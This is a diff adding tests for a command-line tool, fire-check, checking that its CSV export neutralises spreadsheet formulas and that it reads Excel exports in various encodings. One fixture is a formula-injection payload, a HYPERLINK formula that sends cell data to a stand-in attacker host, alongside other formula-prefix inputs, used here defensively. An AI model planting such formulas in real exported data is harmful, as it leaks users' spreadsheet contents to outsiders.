@@ -48,6 +48,102 @@ describe('fire-check batch (built binary)', () => {
     expect(result.stderr).toBe('scored 5, failed 0\n');
   });
 
+  it("CSV out never holds a live formula: the issue's example", () => {
+    const dir = mkdtempSync(`${tmpdir()}/fire-check-`);
+    writeFileSync(`${dir}/f.csv`, 'client,pays_late\n"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",often\n');
+    const result = runCli(['batch', `${dir}/f.csv`, '--format', 'csv']);
+    rmSync(dir, { recursive: true });
+    expect(result.stdout.split('\n')[1]).toBe(`2,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",fix,8,0.04,Pays late: often,`);
+  });
+
+  it('a formula in every form is neutralised in CSV out; NDJSON out keeps the exact name', () => {
+    // [client in, client in CSV out, client in NDJSON out (names are trimmed when read)]
+    const cases = [
+      ['=1+1', "'=1+1", '=1+1'],
+      ['+1+1', "'+1+1", '+1+1'],
+      ['-1+1', "'-1+1", '-1+1'],
+      ['@SUM(A1)', "'@SUM(A1)", '@SUM(A1)'],
+      ['\t=1+1', "'=1+1", '=1+1'],
+      ['\r=1+1', "'=1+1", '=1+1'],
+      ['   =1+1', "'=1+1", '=1+1'],
+      ['A\t=1+1', "A\t'=1+1", 'A\t=1+1'],
+      ['Acme;=1+1', "Acme;'=1+1", 'Acme;=1+1'],
+      ['Caffè Società', 'Caffè Società', 'Caffè Società'],
+    ];
+    const input = cases.map(([client]) => JSON.stringify({ client, answers: { pays_late: 'often' } })).join('\n');
+    const csv = parse(runCli(['batch', '--format', 'csv'], { input }).stdout, { columns: true }) as Record<string, string>[];
+    expect(csv.map((r) => [r.client, r.score])).toEqual(cases.map(([, out]) => [out, '8']));
+    const ndjson = runCli(['batch', '--format', 'ndjson'], { input }).stdout.trim().split('\n');
+    expect(ndjson.map((l) => JSON.parse(l).client)).toEqual(cases.map(([, , exact]) => exact));
+  });
+
+  describe('spreadsheet exports as they really are', () => {
+    const inDir = (files: Record<string, Buffer>, run: (dir: string) => void) => {
+      const dir = mkdtempSync(`${tmpdir()}/fire-check-`);
+      try {
+        for (const [name, data] of Object.entries(files)) writeFileSync(`${dir}/${name}`, data);
+        run(dir);
+      } finally {
+        rmSync(dir, { recursive: true });
+      }
+    };
+    const clientsOf = (stdout: string) => stdout.trim().split('\n').map((l) => JSON.parse(l).client);
+
+    it('Italian Excel "CSV UTF-8": BOM, CRLF, semicolons, quoted upper-case headers, spaces around cells', () => {
+      const csv = '\uFEFF"Client";"PAYS_LATE";"Abuse"\r\n Caffè Società ; often ;no\r\n"Rossi; figli";rarely;\r\n';
+      inDir({ 'clienti.csv': Buffer.from(csv) }, (dir) => {
+        const result = runCli(['batch', `${dir}/clienti.csv`]);
+        expect(result.code).toBe(0);
+        expect(clientsOf(result.stdout)).toEqual(['Caffè Società', 'Rossi; figli']);
+      });
+    });
+
+    it('Windows-1252: refused without --encoding, with the line and what to pass; read right with --encoding windows-1252', () => {
+      inDir({ 'clients.csv': Buffer.from('client;pays_late\r\nAcme;often\r\nCaffè Società;often\r\n', 'latin1') }, (dir) => {
+        const refused = runCli(['batch', `${dir}/clients.csv`]);
+        expect(refused.code).toBe(2);
+        expect(refused.stderr).toContain(`fire-check: ${dir}/clients.csv: line 3: not UTF-8 text: it looks like a Windows code page`);
+        expect(refused.stderr).toContain('pass --encoding windows-1252');
+        expect(refused.stderr).not.toMatch(STACK);
+        expect(refused.stdout).not.toContain('\uFFFD');
+        expect(clientsOf(refused.stdout)).toEqual(['Acme']);
+        const read = runCli(['batch', `${dir}/clients.csv`, '--encoding', 'windows-1252']);
+        expect(read.code).toBe(0);
+        expect(clientsOf(read.stdout)).toEqual(['Acme', 'Caffè Società']);
+        expect(runCli(['batch', `${dir}/clients.csv`, '--lang', 'it']).stderr).toContain('riga 3: non è testo UTF-8');
+      });
+    });
+
+    it('Excel "Unicode text" (UTF-16LE with BOM, tabs) is read without being told; without its BOM, refused with the encoding to pass', () => {
+      const text = 'client\tpays_late\r\nCaffè Società\toften\r\n';
+      inDir({ 'clients.tsv': Buffer.from(`\uFEFF${text}`, 'utf16le'), 'nobom.tsv': Buffer.from(text, 'utf16le') }, (dir) => {
+        expect(clientsOf(runCli(['batch', `${dir}/clients.tsv`]).stdout)).toEqual(['Caffè Società']);
+        const refused = runCli(['batch', `${dir}/nobom.tsv`]);
+        expect(refused.code).toBe(2);
+        expect(refused.stderr).toBe(`fire-check: ${dir}/nobom.tsv: not UTF-8 text: it looks like UTF-16LE without a byte-order mark; pass --encoding utf16le\n`);
+        expect(clientsOf(runCli(['batch', `${dir}/nobom.tsv`, '--encoding', 'utf16le']).stdout)).toEqual(['Caffè Società']);
+      });
+    });
+
+    it('NDJSON: a BOM on the first line is dropped; Windows-1252 is refused, and read with --encoding', () => {
+      const line = JSON.stringify({ client: 'Caffè Società', answers: { pays_late: 'often' } });
+      expect(clientsOf(runCli(['batch'], { input: `\uFEFF${line}\r\n` }).stdout)).toEqual(['Caffè Società']);
+      inDir({ 'c.ndjson': Buffer.from(`${line}\n`, 'latin1') }, (dir) => {
+        expect(runCli(['batch', `${dir}/c.ndjson`]).stderr).toMatch(/c\.ndjson: line 1: not UTF-8 text/);
+        expect(clientsOf(runCli(['batch', `${dir}/c.ndjson`, '--encoding', 'latin1']).stdout)).toEqual(['Caffè Società']);
+      });
+    });
+
+    it('--encoding takes only the encodings there are, and is explained in every language', () => {
+      const bad = runCli(['batch', '--encoding', 'utf-7'], { input: '' });
+      expect(bad.code).toBe(2);
+      expect(bad.stderr).toMatch(/--encoding <name>.*utf-7.*utf8, utf16le, utf16be, windows-1252, windows-1250, latin1/);
+      for (const [lang, words] of [['en', "the input's encoding"], ['it', 'la codifica'], ['hu', 'a bemenet kódolása'], ['th', 'การเข้ารหัส']]) {
+        expect(runCli(['batch', '--help', '--lang', lang as string]).stdout).toMatch(new RegExp(`--encoding <name>\\s+${words}`));
+      }
+    });
+  });
+
   it('a ranked table, worst first', () => {
     const result = runCli(['batch', 'examples/clients.csv', '--format', 'table']);
     const clients = result.stdout.trim().split('\n').slice(2).map((l) => l.split(/\s{2,}/)[1]);
